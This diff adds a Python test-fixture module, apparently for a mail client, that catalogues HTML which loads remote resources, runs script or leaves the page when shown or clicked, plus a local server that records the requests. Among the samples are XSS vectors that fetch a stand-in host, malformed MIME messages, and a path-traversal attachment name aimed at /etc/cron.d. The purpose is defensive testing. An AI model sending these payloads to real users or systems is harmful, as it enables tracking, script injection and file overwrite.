@@ -1,0 +1,170 @@
+"""Mail that wants to do something when it is looked at, and a place that notices when it does.
+
+Each HTML reaches for `ELSEWHERE`, another origin, with its own name as the path: a picture, a
+style, a script that runs, a frame, a form.  `Elsewhere` is that origin; it hears connections too,
+because a `preconnect` asks for nothing and tells the sender all the same.
+"""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Callable
+from typing import Any
+
+ELSEWHERE = "http://elsewhere.invalid"  # stands for the address, which is known when it runs
+
+_RUN = f"void(fetch('{ELSEWHERE}/NAME',{{mode:'no-cors'}}),top.hacked=1)"
+
+LOADS: dict[str, str] = {
+    "img": f'<img src="{ELSEWHERE}/img">',
+    "srcset": f'<img srcset="{ELSEWHERE}/srcset 1x">',
+    "picture": f'<picture><source srcset="{ELSEWHERE}/picture"><img src="data:,"></picture>',
+    "background": f'<body background="{ELSEWHERE}/background">',
+    "css-url": f"<p style=\"background:url('{ELSEWHERE}/css-url')\">text</p>",
+    "css-import": f"<style>@import url('{ELSEWHERE}/css-import');</style>",
+    "css-font": (
+        f"<style>@font-face{{font-family:f;src:url('{ELSEWHERE}/css-font')}}p{{font-family:f}}"
+        "</style><p>text</p>"
+    ),
+    "stylesheet": f'<link rel="stylesheet" href="{ELSEWHERE}/stylesheet">',
+    "preload": f'<link rel="preload" as="image" href="{ELSEWHERE}/preload">',
+    "prefetch": f'<link rel="prefetch" href="{ELSEWHERE}/prefetch">',
+    "svg-image": f'<svg><image href="{ELSEWHERE}/svg-image" width="9" height="9"/></svg>',
+    "video": f'<video poster="{ELSEWHERE}/video"></video>',
+    "audio": f'<audio src="{ELSEWHERE}/audio" autoplay></audio>',
+    "iframe": f'<iframe src="{ELSEWHERE}/iframe"></iframe>',
+    "object": f'<object data="{ELSEWHERE}/object"></object>',
+    "embed": f'<embed src="{ELSEWHERE}/embed">',
+    "input-image": f'<input type="image" src="{ELSEWHERE}/input-image">',
+    "base": f'<base href="{ELSEWHERE}/"><img src="base">',
+    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">',
+    "script-src": f'<script src="{ELSEWHERE}/script-src"></script>',
+}
+"""Loads something as soon as it is shown."""
+
+CONNECTS: dict[str, str] = {
+    "preconnect": f'<link rel="preconnect" href="{ELSEWHERE}"><p>text</p>',
+    "preconnect-late": f'<p>text<LINK/rel=preconnect href="{ELSEWHERE}" crossorigin></p>',
+}
+"""Opens a connection as soon as it is shown, and asks for nothing."""
+
+RUNS: dict[str, str] = {
+    "script": "<script>RUN</script>",
+    "module": '<script type="module">RUN</script>',
+    "onerror": '<img src="data:," onerror="RUN">',
+    "onload": '<svg onload="RUN"></svg>',
+    "autofocus": '<input autofocus onfocus="RUN">',
+    "ontoggle": '<details open ontoggle="RUN">text</details>',
+    "animation": "<style>@keyframes k{from{color:red}}</style>"
+    '<p style="animation:k 1ms" onanimationstart="RUN">text</p>',
+    "iframe-js": '<iframe src="javascript:RUN"></iframe>',
+    "srcdoc": '<iframe srcdoc="<script>top.hacked=1;new Image().src='
+    f"'{ELSEWHERE}/srcdoc'</script>\"></iframe>",
+    "unclosed": "<title><textarea></title></textarea><script>RUN</script>",
+    "self-submit": f'<form id="f" action="{ELSEWHERE}/self-submit"></form>'
+    "<script>document.getElementById('f').submit()</script>",
+    "leave": f"<script>top.location='{ELSEWHERE}/leave'</script>",
+}
+"""Runs a script as soon as it is shown."""
+
+LEAVES = frozenset({"refresh", "self-submit", "leave"})
+"""Those of the above that lead away from where they are shown."""
+
+CLICKS: dict[str, str] = {
+    "link": f'<a id="it" href="{ELSEWHERE}/link">text</a>',
+    "link-top": f'<a id="it" target="_top" href="{ELSEWHERE}/link-top">text</a>',
+    "link-blank": f'<a id="it" target="_blank" href="{ELSEWHERE}/link-blank">text</a>',
+    "link-ping": f'<a id="it" href="#here" ping="{ELSEWHERE}/link-ping">text</a>',
+    "link-js": '<a id="it" href="javascript:RUN">text</a>',
+    "link-download": f'<a id="it" download href="{ELSEWHERE}/link-download">text</a>',
+    "form": f'<form action="{ELSEWHERE}/form"><button id="it">text</button></form>',
+    "form-js": '<form action="javascript:RUN"><button id="it">text</button></form>',
+    "onclick": '<button id="it" onclick="RUN">text</button>',
+}
+"""Does something when the element `it` is clicked."""
+
+
+def catalogue(elsewhere: str, *parts: dict[str, str]) -> dict[str, str]:
+    """Return the HTML of `parts` by name, reaching for `elsewhere`."""
+    return {
+        name: text.replace("RUN", _RUN.replace("NAME", name)).replace(ELSEWHERE, elsewhere)
+        for part in parts
+        for name, text in part.items()
+    }
+
+
+class Elsewhere:
+    """An HTTP server that answers everything and remembers who came."""
+
+    def __init__(self) -> None:
+        self.heard: set[str] = set()
+        self.connections = 0
+        self._news = threading.Condition()
+        seen = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def setup(self) -> None:
+                with seen._news:
+                    seen.connections += 1
+                    seen._news.notify_all()
+                super().setup()
+
+            def do_GET(self) -> None:
+                with seen._news:
+                    seen.heard.add(self.path.strip("/?"))
+                    seen._news.notify_all()
+                self.send_response(200)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *_: Any) -> None:
+                """Stay silent: what was heard is what matters."""
+
+        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,))
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def __enter__(self) -> Elsewhere:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.shutdown()
+        self._thread.join()
+        self._server.server_close()
+
+    def wait_for(self, name: str, timeout: float = 10.0) -> None:
+        """Wait until `name` was asked for; `AssertionError` if it never is."""
+        self._wait(lambda: name in self.heard, f"{name} was not heard", timeout)
+
+    def wait_for_connections(self, count: int, timeout: float = 10.0) -> None:
+        """Wait until `count` connections were opened; `AssertionError` if they never are."""
+        self._wait(lambda: self.connections >= count, "nobody connected", timeout)
+
+    def _wait(self, met: Callable[[], bool], otherwise: str, timeout: float) -> None:
+        with self._news:
+            assert self._news.wait_for(met, timeout), otherwise
+
+
+def unparseable() -> dict[str, bytes]:
+    """Whole messages that break parsers, by their subject."""
+    parts = b"--b\r\n\r\nx\r\n" * 100_000
+    nested = b"".join(
+        b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n)
+        for n in range(1000)
+    )
+    odd = {
+        "deep": nested,
+        "parts": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts,
+        "brackets": b"From: " + b"(" * 500 + b"\r\n\r\nbody\r\n",
+        "message-id": b"Message-ID: <\r\n\r\nbody\r\n",
+        "charset": b"Content-Type: text/plain; charset=no-such\r\n\r\nbody\r\n",
+        "filename": (
+            b'Content-Disposition: attachment; filename="../../etc/cron.d/x"\r\n\r\nbody\r\n'
+        ),
+    }
+    return {f"<img src=x onerror=top.hacked=1> {name}": text for name, text in odd.items()}
